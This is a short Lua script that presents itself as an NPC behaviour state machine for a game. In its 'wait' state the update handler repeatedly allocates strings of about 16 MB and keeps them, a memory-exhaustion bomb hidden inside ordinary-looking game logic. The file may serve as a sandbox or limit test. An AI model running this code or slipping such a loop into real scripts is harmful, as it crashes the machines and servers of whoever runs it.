local t = {}
BeginStateMachine { OnEnter = function(npc) SetState("wait") end }
State "wait" { OnUpdate = function(npc) for i = 1, 1000 do t[#t + 1] = ("x"):rep(65536):rep(256) .. i end end }
State "chase" {}
State "attack" {}
State "die" {}
